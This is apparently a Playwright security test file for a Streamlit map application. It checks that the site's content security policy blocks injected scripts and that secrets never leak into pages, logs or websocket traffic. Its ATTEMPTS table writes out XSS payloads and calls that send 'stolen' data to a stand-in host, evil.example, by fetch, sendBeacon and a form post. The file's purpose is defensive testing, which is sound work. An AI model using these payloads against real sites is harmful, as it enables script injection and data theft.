"""What a real browser does under the policies: all that readers do, and nothing that an intruder would."""

import json
import re

import pytest
from playwright.sync_api import expect
from support.map_page import MARK, choose, frame_of, settled, spot
from support.raw_http import ask
from support.servers import serving

REPORT = """addEventListener('securitypolicyviolation', event => console.warn(
    'refused by policy:', event.effectiveDirective, event.blockedURI, event.sourceFile))"""
FOREIGN = "https://evil.example"
HIDDEN = "s3cret-of-the-database"

ATTEMPTS = {
    "inline handler": 'put(\'<img src="data:," onerror="window.intruded = 1">\')',
    "inline script": "run('window.intruded = 1', '')",
    "script of another site": f"run('', '{FOREIGN}/a.js')",
    "script as data": "run('', 'data:text/javascript,window.intruded = 1')",
    "frame with a script": "put('<iframe srcdoc=\"<script>parent.intruded = 1</' + 'script>\"></iframe>')",
    "frame of another site": f"put('<iframe src=\"{FOREIGN}/\"></iframe>')",
    "address that is a script": """put('<a id="link" href="javascript:void(window.intruded = 1)">x</a>');
        document.getElementById('link').click()""",
    "request": f"fetch('{FOREIGN}/?stolen').catch(() => 0)",
    "websocket": f"new WebSocket('{FOREIGN}/'.replace('https', 'wss'))",
    "beacon": f"navigator.sendBeacon('{FOREIGN}/', 'stolen')",
    "image": f"put('<img src=\"{FOREIGN}/a.png\">')",
    "style sheet": f"put('<link rel=stylesheet href=\"{FOREIGN}/a.css\">')",
    "form": f"""put('<form id="form" method="post" action="{FOREIGN}/"></form>');
        document.getElementById('form').submit()""",
    "plug-in": f"put('<object data=\"{FOREIGN}/a.swf\"></object>')",
}
"""What somebody would try who got markup or a line of script into the page, by name."""

VIEWS = {
    "汇总": "[data-testid=stVegaLiteChart] :is(canvas, svg)",
    "对比": ".st-key-compare .pm-small-map",
    "未列文字": ".st-key-coverage p",
    "列表": ".st-key-list tbody tr",
}
"""Each view by its label, and what is there once it is drawn."""

TARGETS = [
    "/", "/any", "/api/", "/api/projects.geojson", "/api/document.json", "/api/openapi.json",
    "/api/projects.csv?sector=magic", "/data/x/map.json", "/assets/x/ui.json", "/_stcore/health",
    "/_stcore/host-config", "/_stcore/metrics", "/_stcore/agent/openapi.json",
]  # fmt: skip

SANDBOXED = ("form", "plug-in")
"""What Streamlit's sandbox around the map's frame stops before any policy is asked, and says nothing."""

TRY = """() => {
    window.intruded = null;
    const put = markup => document.body.insertAdjacentHTML('beforeend', markup);
    const run = (text, address) => {
      const script = document.createElement('script');
      if (address) script.src = address; else script.textContent = text;
      document.body.append(script);
    };
    ATTEMPT;
}"""


def intruded(page, frame, name, refused):
    """Make an attempt, and wait until a policy has refused it or it has had its way."""
    before = len(refused)
    frame.evaluate(TRY.replace("ATTEMPT", ATTEMPTS[name]))
    for _ in range(600):
        if frame.evaluate("() => window.intruded"):
            return True
        if len(refused) > before:
            return False
        page.wait_for_timeout(20)  # pumps the browser's events; the loop waits on a condition
    raise AssertionError(f"nobody refused: {name}")


def watched(open_page, **options):
    """Return an empty page that will keep whatever a policy refuses, and the list of that."""
    page = open_page("about:blank", **options)
    refused = []

    def heard(message):
        if re.search("refused by policy|Content Security Policy|Permissions policy", message.text):
            refused.append(message.text)

    page.on("console", heard)
    page.context.add_init_script(REPORT)
    return page, refused


def test_nothing_that_a_reader_does_is_refused(open_page, app, outside):
    page, refused = watched(open_page)
    page.goto(f"{app}/?view=document")
    frame = frame_of(page)
    frame.evaluate(MARK)
    choose(page, "sector", "铁路与轨道")
    page.mouse.click(*spot(page, frame, "miansuinei-railway"))
    expect(page.locator(".st-key-detail h2")).to_have_text("绵遂内铁路")
    copy = page.locator(".st-key-chips .pm-copy")
    copy.click()
    expect(copy).to_have_text(copy.get_attribute("data-done"))
    for label, there in VIEWS.items():
        page.get_by_role("button", name=label).or_(page.get_by_role("radio", name=label)).click()
        page.locator(there).first.wait_for()
        settled(page)
    assert frame.evaluate("() => window.sameMap === true")
    assert refused == []
    assert outside == []


def test_the_page_about_the_api_keeps_its_style_and_its_downloads(open_page, app):
    page, refused = watched(open_page)
    page.goto(f"{app}/api/")
    assert page.evaluate("() => getComputedStyle(document.body).maxWidth") != "none"
    with page.expect_download() as download:
        page.get_by_role("link", name="projects.csv", exact=True).click()
    assert download.value.suggested_filename.endswith(".csv")
    page.get_by_role("link", name="codelists.json").click()
    expect(page.locator("body")).to_contain_text("rail")
    assert refused == []


@pytest.mark.parametrize("where", ["page", "frame"])
def test_what_an_intruder_would_do_is_refused_and_nothing_leaves(open_page, app, outside, where):
    page, refused = watched(open_page)
    page.goto(f"{app}/")
    frame = frame_of(page) if where == "frame" else page.main_frame
    settled(page)
    before = page.url
    for name in ATTEMPTS:
        if where == "page" or name not in SANDBOXED:
            assert not intruded(page, frame, name, refused), name
    assert outside == []
    assert page.url == before
    assert not frame.evaluate("() => window.intruded")


def test_without_the_policy_the_same_attempts_have_their_way(open_page, app, outside):
    page, refused = watched(open_page, bypass_csp=True)
    page.goto(f"{app}/")
    settled(page)
    for name in ("inline handler", "inline script", "script as data", "frame with a script"):
        assert intruded(page, page, name, refused), name
    page.evaluate(TRY.replace("ATTEMPT", ATTEMPTS["image"]))
    for _ in range(600):
        if outside:
            break
        page.wait_for_timeout(20)  # pumps the browser's events; the loop waits on a condition
    assert refused == []
    assert outside == [f"{FOREIGN}/a.png"]


def frames_of(page):
    """Return the list that fills with what the websocket brings."""
    received = []

    def heard(payload):
        received.append(payload if isinstance(payload, bytes) else payload.encode())

    page.on("websocket", lambda socket: socket.on("framereceived", heard))
    return received


def test_a_database_that_does_not_answer_never_shows_its_password(open_page, tmp_path):
    log = tmp_path / "server.log"
    address = f"postgresql://reader:{HIDDEN}@127.0.0.1:1/ziyang"
    with serving(log, PROJECT_MAP_HOME=address) as app:
        page = open_page("about:blank")
        received = frames_of(page)
        page.goto(app)
        expect(page.locator("[data-testid=stMain]")).to_contain_text("127.0.0.1")
        told = [page.content(), *(ask(app, target).text for target in TARGETS)]
    assert b"127.0.0.1" in b"".join(received)
    told += [log.read_text("utf-8"), *(one.decode("latin-1") for one in received)]
    assert not [one for one in told if HIDDEN in one]


def test_no_secret_of_the_environment_is_in_anything_the_server_says(open_page, own_app):
    app, log = own_app.address, own_app.log
    page = open_page("about:blank")
    received = frames_of(page)
    page.goto(f"{app}/?view=document&project=chengziyi-hsr")
    frame_of(page)
    settled(page)
    answers = [ask(app, target) for target in TARGETS]
    told = [page.content(), log.read_text(encoding="utf-8")]
    told += [f"{one.headers}{one.text}" for one in answers]
    told += [one.decode("latin-1") for one in received]
    assert any("chengziyi-hsr" in one for one in told[-len(received) :])
    # The key of the basemap is a browser's key; even so it waits until a reader chooses that.
    assert not [
        name for name, value in own_app.secrets.items() if any(value in one for one in told)
    ]


def test_the_map_of_a_new_edition_is_drawn_by_a_script_that_the_policy_knows(open_page, own_app):
    layer = own_app.home.projects
    page, refused = watched(open_page)
    page.goto(f"{own_app.address}/?sector=water")
    frame_of(page).evaluate(MARK)
    collection = json.loads(layer.read_text(encoding="utf-8"))
    collection["features"][0]["properties"]["name_en"] = "Another name"
    layer.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")
    choose(page, "county", "安岳县")
    page.wait_for_function(
        """() => [...document.querySelectorAll('.st-key-map iframe')].some(one => {
            const inside = one.contentWindow;
            return !inside.sameMap && inside.shownProjects && inside.shownProjects().length;
        })"""
    )
    assert refused == []
